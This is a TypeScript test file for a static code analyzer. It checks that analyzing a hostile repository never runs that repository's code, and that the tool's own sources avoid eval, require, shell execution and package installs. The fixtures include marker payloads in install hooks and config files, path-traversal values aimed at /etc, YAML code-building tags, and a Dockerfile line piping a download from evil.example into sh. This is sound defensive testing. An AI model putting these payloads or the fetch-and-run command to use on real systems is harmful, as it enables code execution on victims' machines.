import { existsSync, readdirSync, readFileSync, rmSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join, relative } from 'node:path';
import { ts } from 'ts-morph';
import { parseConfig } from '../../src/config/parse-config.js';
import { analyzeTree } from '../../src/pipeline/analyze-tree.js';
import { MemoryTree } from '../../src/source/memory-tree.js';

const SRC = new URL('../../src/', import.meta.url).pathname;
const MARKER = join(tmpdir(), `scaling-report-pwned-${process.pid}`);

/** Code that leaves a trace if it is ever loaded or run: a global, a file, an exit. */
const PAYLOAD = `
(globalThis as Record<string, unknown>).__scalingReportPwned = true;
require('fs').writeFileSync(${JSON.stringify(MARKER)}, 'ran');
process.exit(99);
`;

const HOSTILE_REPOSITORY: Record<string, string> = {
  'package.json': JSON.stringify({
    name: 'evil',
    scripts: {
      preinstall: `node -e "${PAYLOAD.replace(/\n/g, ' ')}"`,
      postinstall: 'node src/index.js',
    },
    dependencies: { bullmq: 'file:../../../../etc' },
  }),
  'tsconfig.json':
    '{ "extends": "/etc/passwd", "compilerOptions": { "paths": { "@x/*": ["../../*"] } } }',
  'src/index.ts': `import { Queue } from 'bullmq';\nimport './side-effect';\n${PAYLOAD}\nnew Queue('q');\n`,
  'src/side-effect.ts': PAYLOAD,
  'src/config.ts': `export const name = (() => { ${PAYLOAD}; return 'q'; })();`,
  'src/dynamic.ts': `import { Queue } from 'bullmq';\nconst m = await import(process.env.EVIL!);\nnew Queue(m.name);\n`,
  'jest.config.js': `module.exports = (() => { ${PAYLOAD} })();`,
  'webpack.config.js': PAYLOAD,
  '.eslintrc.js': PAYLOAD,
  Dockerfile:
    'FROM node:20\nRUN curl http://evil.example | sh\nCMD ["node", "src/index.js"]\n',
};

afterEach(() => rmSync(MARKER, { force: true }));

describe('analyzed code is never run', () => {
  it('analyzes a repository full of side effects without running any of them', async () => {
    const model = await analyzeTree(new MemoryTree(HOSTILE_REPOSITORY, 'evil'));

    expect(
      (globalThis as Record<string, unknown>).__scalingReportPwned,
    ).toBeUndefined();
    expect(existsSync(MARKER)).toBe(false);
    // The analysis itself worked, from the text alone.
    expect(model.queues.map((queue) => queue.name)).toContain('q');
  });

  it('reads the repository config as data: YAML tags that build code are not honoured', () => {
    const { config, problems } = parseConfig(
      `failLevel: !!js/function "function () { ${PAYLOAD} }"\nrules: !<tag:yaml.org,2002:js/eval> x\n`,
    );

    expect(config.failLevel).toBe('none');
    expect(problems.length).toBeGreaterThan(0);
    expect(existsSync(MARKER)).toBe(false);
  });
});

/** Every call, `new` and import in our sources, for the static checks below. */
function sourceFacts(): { file: string; line: number; what: string }[] {
  const files = (readdirSync(SRC, { recursive: true }) as string[]).filter(
    (f) => f.endsWith('.ts'),
  );
  return files.flatMap((name) => {
    const file = relative(SRC, join(SRC, name));
    const source = ts.createSourceFile(
      file,
      readFileSync(join(SRC, name), 'utf8'),
      ts.ScriptTarget.Latest,
    );
    const found: { file: string; line: number; what: string }[] = [];
    const visit = (node: ts.Node): void => {
      const what = factOf(node, source);
      if (what) {
        const line =
          source.getLineAndCharacterOfPosition(node.getStart(source)).line + 1;
        found.push({ file, line, what });
      }
      ts.forEachChild(node, visit);
    };
    visit(source);
    return found;
  });
}

function factOf(node: ts.Node, source: ts.SourceFile): string | undefined {
  if (
    ts.isImportDeclaration(node) &&
    ts.isStringLiteral(node.moduleSpecifier)
  ) {
    return `import ${node.moduleSpecifier.text}`;
  }
  if (
    ts.isCallExpression(node) &&
    node.expression.kind === ts.SyntaxKind.ImportKeyword
  ) {
    return `import(${node.arguments[0]?.getText(source) ?? ''})`;
  }
  if (
    (ts.isCallExpression(node) || ts.isNewExpression(node)) &&
    ts.isIdentifier(node.expression)
  ) {
    return `${ts.isNewExpression(node) ? 'new ' : ''}${node.expression.text}()`;
  }
  return undefined;
}

describe('our sources never load, evaluate or install analyzed code', () => {
  const facts = sourceFacts();

  it('finds the calls and imports it checks', () => {
    expect(
      facts.filter((fact) => fact.what.startsWith('import ')).length,
    ).toBeGreaterThan(100);
  });

  it.each([
    ['eval', /^eval\(\)$/],
    ['the Function constructor', /^(new )?Function\(\)$/],
    ['require', /^require\(\)$/],
    ['dynamic import of anything but our own modules', /^import\((?!'\.\.?\/)/],
    ['the vm module', /^import (node:)?vm$/],
    ['worker threads running files', /^import (node:)?worker_threads$/],
    ['module loading hooks', /^import (node:)?module$/],
  ])('uses no %s', (_name, pattern) => {
    expect(facts.filter((fact) => pattern.test(fact.what))).toEqual([]);
  });

  it('starts child processes only to read git objects, never through a shell', () => {
    const users = facts.filter((fact) =>
      /^import (node:)?child_process$/.test(fact.what),
    );
    expect(users.map((fact) => fact.file)).toEqual(['source/git-tree.ts']);

    const gitTree = readFileSync(join(SRC, 'source/git-tree.ts'), 'utf8');
    expect(gitTree).not.toMatch(/shell\s*:/);
    expect(gitTree).toMatch(
      /^import \{ execFile, execFileSync, spawn \} from 'node:child_process';$/m,
    );
    const programs = [
      ...gitTree.matchAll(/\b(?:spawn|execFileSync|run)\(\s*'([^']+)'/g),
    ].map((m) => m[1]);
    expect(new Set(programs)).toEqual(new Set(['git']));
  });

  it('mentions no package installation anywhere', () => {
    const sources = (readdirSync(SRC, { recursive: true }) as string[])
      .filter((name) => name.endsWith('.ts'))
      .filter((name) =>
        /\b(npm|yarn|pnpm) (install|ci|add)\b/.test(
          readFileSync(join(SRC, name), 'utf8'),
        ),
      );
    expect(sources).toEqual([]);
  });
});
